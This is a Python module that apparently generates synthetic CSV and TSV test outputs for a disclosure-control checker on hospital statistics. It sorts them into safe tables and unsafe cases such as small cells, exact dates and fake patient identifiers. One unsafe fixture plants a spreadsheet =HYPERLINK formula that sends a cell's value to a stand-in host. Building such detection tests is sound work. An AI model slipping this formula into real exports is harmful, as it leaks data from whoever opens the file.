"""CSV and TSV outputs."""

import math

import numpy as np
import pandas as pd

from .kit import delimited, ipp, nir, split, table1


def write(shelf) -> None:
    safe(shelf)
    unsafe(shelf)


def safe(shelf) -> None:
    r = shelf.random("csv-safe")
    f = shelf.safe(
        "csv/ghm_activite_pneumo_2023.csv",
        "severity levels 1-4 and code digits",
        "Séjours de pneumologie 2023 par GHM et niveau de sévérité, cellules de moins de 11 séjours non présentes dans l'extraction.",
        "6 214 séjours de pneumologie, 2023",
    )
    rows = [["ghm", "libelle", "niveau_severite", "nb_sejours", "dms_jours", "pct_deces"]]
    for code, lab, n in [
        ("04M05", "Pneumonies et pleurésies banales, âge > 17 ans", 1420),
        ("04M08", "Bronchopneumopathies chroniques surinfectées", 1288),
        ("04M09", "Tumeurs de l'appareil respiratoire", 1106),
        ("04M03", "Traumatismes thoraciques", 760),
        ("04M15", "Insuffisances respiratoires aiguës", 1640),
    ]:
        for lv, k in enumerate(split(r, n, [4, 3, 2, 1.2]), 1):
            rows.append(
                [
                    code,
                    lab,
                    lv,
                    k,
                    round(2.1 + 2.9 * lv + r.random(), 1),
                    round(100 * round(k * (0.06 + 0.03 * lv) + 6) / k, 1),
                ]
            )
    for row in rows[1:]:
        row[5] = round(100 * max(12, round(row[3] * 0.12)) / row[3], 1)
    delimited(f, rows, ";")

    f = shelf.safe(
        "csv/tidy_logit_readmission.csv",
        "small p-values, estimates near zero, a df column",
        "Odds ratios of a multivariable logistic model of 30-day readmission after heart failure (R broom::tidy).",
        "4,318 heart failure discharges, 702 readmissions",
    )
    rows = [["term", "estimate", "std.error", "statistic", "p.value", "conf.low", "conf.high"]]
    for t in [
        "(Intercept)",
        "age_per10",
        "sexMale",
        "lvef_cat<30%",
        "lvef_cat30-40%",
        "creatinine_log",
        "diabetesYes",
        "copdYes",
        "n_prior_admissions",
        "discharge_on_friday",
        "bnp_log2",
        "hb_per1g",
        "sodium<135",
        "charlson>=5",
        "lives_aloneYes",
    ]:
        b, se = r.gauss(0.1, 0.3), r.uniform(0.05, 0.14)
        rows.append(
            [
                t,
                f"{math.exp(b):.4f}",
                f"{se:.4f}",
                f"{b / se:.3f}",
                f"{math.erfc(abs(b / se) / 2**0.5):.3e}",
                f"{math.exp(b - 1.96 * se):.4f}",
                f"{math.exp(b + 1.96 * se):.4f}",
            ]
        )
    delimited(f, rows)

    f = shelf.safe(
        "csv/omop_measurement_mapping.tsv",
        "ten-digit concept ids that begin with 80",
        "Mapping coverage of local lab codes to OMOP concepts with number of patients measured; ids are terminology codes.",
        "61,204 patients with at least one lab result",
    )
    rows = [["source_code", "source_label", "concept_id", "vocabulary", "n_patients"]]
    for i, lab in enumerate(
        [
            "Créatinine",
            "Sodium",
            "Potassium",
            "CRP",
            "Hémoglobine",
            "Plaquettes",
            "Leucocytes",
            "Troponine T hs",
            "NT-proBNP",
            "Glucose",
            "HbA1c",
            "ASAT",
            "ALAT",
            "GGT",
            "Bilirubine totale",
            "Lactate",
            "Procalcitonine",
            "Ferritine",
            "TSH",
            "D-dimères",
        ]
    ):
        rows.append(
            [
                f"LAB{r.randint(100, 999)}",
                lab,
                8000000000 + r.randint(10**6, 9 * 10**8),
                "AP-LOCAL",
                r.randint(800, 59000) // 10 * 10,
            ]
        )
    delimited(f, rows, "\t")

    f = shelf.safe(
        "csv/describe_icu_labs.csv",
        "pandas describe with std and quartiles but neither min nor max",
        "Distribution of admission laboratory values in the ICU, describe() with min and max dropped.",
        "2,907 adult ICU admissions 2018-2022",
    )
    rg = np.random.default_rng(311)
    df = pd.DataFrame(
        {
            c: rg.lognormal(m, s, 2907)
            for c, m, s in [
                ("lactate_mmol", 0.6, 0.6),
                ("creatinine_umol", 4.6, 0.5),
                ("bilirubin_umol", 2.6, 0.8),
                ("platelets_g_l", 5.2, 0.5),
                ("pao2_fio2", 5.4, 0.4),
                ("crp_mg_l", 4.0, 1.1),
                ("wbc_g_l", 2.4, 0.5),
            ]
        }
    )
    df.describe().drop(["min", "max"]).round(2).T.to_csv(f, index_label="variable")

    f = shelf.safe(
        "csv/cv_sepsis_metrics.csv",
        "folds 1-5, repeats 1-3, epochs",
        "Repeated cross-validation metrics for the early sepsis model, one line per fold.",
        "11,480 ward stays, 1,236 sepsis events",
    )
    rows = [["repeat", "fold", "n_train", "n_valid", "best_epoch", "auroc", "auprc", "brier"]]
    for a in range(1, 4):
        for b in range(1, 6):
            rows.append(
                [
                    a,
                    b,
                    9184,
                    2296,
                    r.randint(3, 9),
                    f"{r.uniform(0.82, 0.86):.4f}",
                    f"{r.uniform(0.40, 0.47):.4f}",
                    f"{r.uniform(0.071, 0.079):.4f}",
                ]
            )
    delimited(f, rows)

    f = shelf.safe(
        "csv/bloc_occupation_hebdo.csv",
        "few operating rooms, week numbers, no person counted below ten",
        "Taux d'occupation hebdomadaire des salles du bloc central, pilotage.",
        "9 800 interventions programmées, premier semestre 2024",
    )
    rows = [
        [
            "semaine",
            "salles_ouvertes",
            "vacations_prevues",
            "interventions",
            "taux_occupation_pct",
            "taux_debordement_pct",
        ]
    ]
    rows += [
        [
            w,
            r.choice([6, 7, 8, 9]),
            r.randint(60, 78),
            r.randint(340, 402),
            f"{r.uniform(71, 86):.1f}".replace(".", ","),
            f"{r.uniform(8, 14):.1f}".replace(".", ","),
        ]
        for w in range(1, 27)
    ]
    delimited(f, rows, ";", "latin-1")

    f = shelf.safe(
        "csv/lightgbm_feature_importance.csv",
        "ranks and split counts below ten are not persons",
        "Gain and split importance of the LightGBM model predicting postoperative delirium.",
        "5,662 surgical patients aged 65 and over",
    )
    rows = [["rank", "feature", "gain_share", "n_splits", "mean_abs_shap"]]
    for i, x in enumerate(
        [
            "age",
            "mmse_preop",
            "asa_class",
            "surgery_minutes",
            "albumin",
            "benzodiazepine_7d",
            "hearing_aid",
            "hb_nadir",
            "crp_day1",
            "opioid_mme",
            "alcohol_audit",
            "n_drugs",
            "icu_stay",
            "sodium",
            "emergency",
            "anesthesia_type",
            "sex",
            "weekday",
        ],
        1,
    ):
        rows.append([i, x, f"{0.31 / i:.4f}", max(2, 160 // i - 6), f"{0.62 / i:.4f}"])
    delimited(f, rows)

    f = shelf.safe(
        "csv/urgences_delais_tri.csv",
        "triage levels 1 to 5, quartiles in minutes",
        "Délais de prise en charge aux urgences par niveau de tri FRENCH et tranche horaire (médiane et quartiles).",
        "48 930 passages aux urgences adultes en 2022",
    )
    rows = [["niveau_tri", "tranche_horaire", "passages", "delai_q1_min", "delai_mediane_min", "delai_q3_min"]]
    for tri, n in zip([1, 2, 3, 4, 5], split(r, 48930, [3, 12, 45, 30, 10])):
        for tr, k in zip(["00h-08h", "08h-14h", "14h-20h", "20h-24h"], split(r, n, [15, 30, 35, 20])):
            q = 2 * tri**1.6 + r.random() * 3
            rows.append([tri, tr, k, round(q), round(q * 2.1 + 1), round(q * 4 + 2)])
    delimited(f, rows, ";")

    f = shelf.safe(
        "csv/calibration_deciles_mortality.csv",
        "groups numbered 1-10 with events at least 14 and complements too",
        "Calibration by decile of predicted 1-year mortality after hip fracture.",
        "3,640 hip fracture patients",
    )
    rows = [["decile", "n", "mean_predicted", "observed_rate", "n_deaths"]]
    for i in range(10):
        k = 15 + 13 * i + r.randint(0, 4)
        rows.append([i + 1, 364, f"{(k + r.uniform(-4, 4)) / 364:.4f}", f"{k / 364:.4f}", k])
    delimited(f, rows)


def unsafe(shelf) -> None:
    r = shelf.random("csv-unsafe")
    f = shelf.unsafe(
        "csv/comorbidites_dialyse.csv",
        "small cell",
        "VHC, centre lourd: 4",
        "Comorbidités des patients dialysés par modalité (effectifs et pourcentages).",
        "1 118 patients dialysés chroniques au 31/12/2022",
    )
    rows = table1(
        r,
        [702, 416],
        [
            ("Diabète", 43),
            ("HTA", 83),
            ("Insuffisance cardiaque", 28),
            ("AOMI", 22),
            ("AVC", 14),
            ("Cancer actif", 11),
            ("VHB", 5),
            ("VHC", 6),
            ("BPCO", 13),
            ("Dénutrition", 19),
        ],
        True,
        {"VHC": (0, 4)},
    )
    delimited(f, [["Comorbidité", "Total n=1118", "Centre lourd n=702", "Autodialyse n=416", "p"], *rows], ";")

    f = shelf.unsafe(
        "csv/correlation_input_matrix.csv",
        "row-level data turned on its side: one column per patient",
        "columns s1..s64",
        "Matrice utilisée pour la figure de corrélation entre biomarqueurs.",
        "64 patients du protocole inflammation",
    )
    rows = [["biomarqueur"] + [f"s{i}" for i in range(1, 65)]]
    for b, m in [
        ("crp", 40),
        ("il6", 25),
        ("tnf", 12),
        ("ferritine", 420),
        ("pct", 0.9),
        ("ddim", 900),
        ("albumine", 33),
        ("fibrinogene", 4.4),
        ("lymphocytes", 1.2),
    ]:
        rows.append([b] + [f"{m * math.exp(r.gauss(0, 0.5)):.2f}" for _ in range(64)])
    delimited(f, rows)

    f = shelf.unsafe(
        "csv/atc_prescriptions_geriatrie.csv",
        "formula injection",
        "label of line N05BA",
        "Prescriptions par classe ATC en court séjour gériatrique.",
        "2 455 patients de gériatrie, 2021",
    )
    rows = [["atc", "libelle", "n_patients", "pct"]]
    for a, lab, k in [
        ("A02BC", "IPP", 1402),
        ("B01AB", "Héparines", 1120),
        ("C03CA", "Diurétiques de l'anse", 884),
        ("C07AB", "Bêtabloquants", 941),
        ("N02BE", "Paracétamol", 1930),
        ("N05BA", '=HYPERLINK("http://stats.exemple.test/?q="&C5,"Benzodiazépines")', 502),
        ("N06AB", "ISRS", 433),
        ("J01CR", "Pénicillines + inhibiteur", 610),
        ("A10BA", "Metformine", 288),
    ]:
        rows.append([a, lab, k, f"{100 * k / 2455:.1f}"])
    delimited(f, rows)

    f = shelf.unsafe(
        "csv/nlp_agreement_errors.csv",
        "IPP of patients left in the document reference",
        "column doc_ref",
        "Inter-annotator agreement per document type for the adverse drug event annotation.",
        "1,200 annotated documents from 940 patients",
    )
    rows = [["doc_type", "n_docs", "kappa", "f1_entity", "doc_ref"]]
    for t, k in [
        ("CR hospitalisation", 402),
        ("CR consultation", 331),
        ("CR passage urgences", 188),
        ("Ordonnance", 121),
        ("CR opératoire", 96),
        ("Courrier de sortie", 62),
    ]:
        rows.append(
            [
                t,
                k,
                f"{r.uniform(0.7, 0.9):.2f}",
                f"{r.uniform(0.74, 0.92):.2f}",
                f"{ipp(r)}_{r.randint(1, 40):03d}.txt",
            ]
        )
    delimited(f, rows)

    f = shelf.unsafe(
        "csv/labs_summary_preeclampsia.csv",
        "minimum and maximum",
        "columns min and max",
        "Laboratory values at diagnosis of preeclampsia, pandas describe().",
        "812 women with preeclampsia 2016-2023",
    )
    rg = np.random.default_rng(312)
    df = pd.DataFrame(
        {
            c: rg.lognormal(m, 0.4, 812)
            for c, m in [
                ("platelets", 5.2),
                ("asat", 3.5),
                ("alat", 3.4),
                ("uric_acid", 5.9),
                ("creatinine", 4.1),
                ("ldh", 5.8),
                ("proteinuria_g", 0.6),
                ("haptoglobin", 0.1),
            ]
        }
    )
    df.describe().round(2).to_csv(f)

    f = shelf.unsafe(
        "csv/vaccination_grippe_services.csv",
        "complement of a percentage: 99.6 % of 742",
        "row Réanimation néonatale",
        "Couverture vaccinale antigrippale des patients à risque par service.",
        "6 904 patients à risque, hiver 2023-2024",
    )
    rows = [["service", "patients_a_risque", "couverture_pct"]]
    for s, n, k in [
        ("Pneumologie", 1203, 744),
        ("Cardiologie", 1511, 810),
        ("Néphrologie", 742, 739),
        ("Gériatrie", 1322, 1001),
        ("Médecine interne", 894, 402),
        ("Endocrinologie", 618, 255),
        ("Hématologie", 614, 388),
    ]:
        rows.append([s, n, f"{100 * k / n:.1f}"])
    delimited(f, rows)
    shelf.cases[-1] = type(shelf.cases[-1])(**{**shelf.cases[-1].__dict__, "where": "row Néphrologie"})

    f = shelf.unsafe(
        "csv/survfit_glioblastoma.tsv",
        "survival steps of single events",
        "every line of n.event",
        "Kaplan-Meier estimates of overall survival in glioblastoma, survfit summary.",
        "146 patients with glioblastoma",
    )
    rows, n, s, t = [["time", "n.risk", "n.event", "surv", "std.err"]], 146, 1.0, 0.4
    while n > 20:
        t += r.uniform(0.1, 0.6)
        s *= 1 - 1 / n
        rows.append([f"{t:.2f}", n, 1, f"{s:.4f}", f"{(s * (1 - s) / 146) ** 0.5:.4f}"])
        n -= 1
    delimited(f, rows, "\t")

    f = shelf.unsafe(
        "csv/cas_groupes_bhre.csv",
        "exact dates of single events",
        "column date_cas_index",
        "Épisodes d'émergence de BHRe par pôle, indicateurs de gestion.",
        "412 patients porteurs ou contacts, 2021-2023",
    )
    rows = [["pole", "contacts_depistes", "porteurs", "delai_median_jours", "date_cas_index"]]
    for p, k, m in [
        ("Chirurgie digestive", 92, 16),
        ("Réanimation", 74, 21),
        ("SSR", 61, 13),
        ("Néphrologie", 55, 12),
        ("Hématologie", 48, 20),
    ]:
        rows.append([p, k, m, r.randint(3, 9), f"{r.randint(10, 28)}/{r.randint(1, 12):02d}/202{r.randint(1, 3)}"])
    delimited(f, rows, ";")

    f = shelf.unsafe(
        "csv/inclusions_cumulees.csv",
        "cumulated series whose step is below ten",
        "semaine 11: 305 then 311",
        "Courbe d'inclusion cumulée de l'essai, par semaine.",
        "Essai de rééducation, 540 patients inclus",
    )
    rows, c = [["semaine", "inclus_cumul", "objectif_cumul"]], 0
    for w in range(1, 21):
        c += 6 if w == 12 else r.randint(22, 33)
        rows.append([w, c, 27 * w])
    shelf.cases[-1] = type(shelf.cases[-1])(
        **{
            **shelf.cases[-1].__dict__,
            "where": "semaine 12: step of 6",
            "population": f"Essai de rééducation, {c} patients inclus",
        }
    )
    delimited(f, rows)

    f = shelf.unsafe(
        "csv/couts_sejours_greffe.csv",
        "NIR in a trailing note line",
        "last line",
        "Coût moyen par poste des séjours de greffe rénale.",
        "388 greffes rénales, 2019-2022",
    )
    rows = [["poste", "cout_moyen_eur", "ecart_type_eur", "part_pct"]]
    for p, m in [
        ("Personnel soignant", 6120),
        ("Bloc opératoire", 4210),
        ("Médicaments", 3895),
        ("Imagerie", 912),
        ("Biologie", 1480),
        ("Logistique", 1760),
        ("Structure", 2240),
    ]:
        rows.append([p, m, round(m * 0.32), f"{100 * m / 20617:.1f}"])
    rows.append([f"# séjour atypique retiré de l'analyse (assuré {nir(r)})", "", "", ""])
    delimited(f, rows, ";")

    f = shelf.unsafe(
        "csv/tx_complications_words.csv",
        "counts written in words",
        "row Perforation: 'seven'",
        "Complications after colonoscopy by indication, narrative count column.",
        "7,930 colonoscopies, 2020-2023",
    )
    rows = [["complication", "screening", "symptoms", "surveillance", "comment"]]
    for c, a, b, d, e in [
        ("Bleeding", 41, 66, 28, "mostly after polypectomy"),
        ("Post-polypectomy syndrome", 22, 19, 14, ""),
        ("Hypotension", 118, 205, 77, "sedation related"),
        ("Desaturation", 64, 130, 41, ""),
        ("Incomplete examination", 152, 401, 96, "poor preparation in half; seven patients had a perforation"),
        ("Aspiration", 13, 37, 12, ""),
    ]:
        rows.append([c, a, b, d, e])
    shelf.cases[-1] = type(shelf.cases[-1])(
        **{**shelf.cases[-1].__dict__, "where": "comment: seven patients had a perforation"}
    )
    delimited(f, rows)
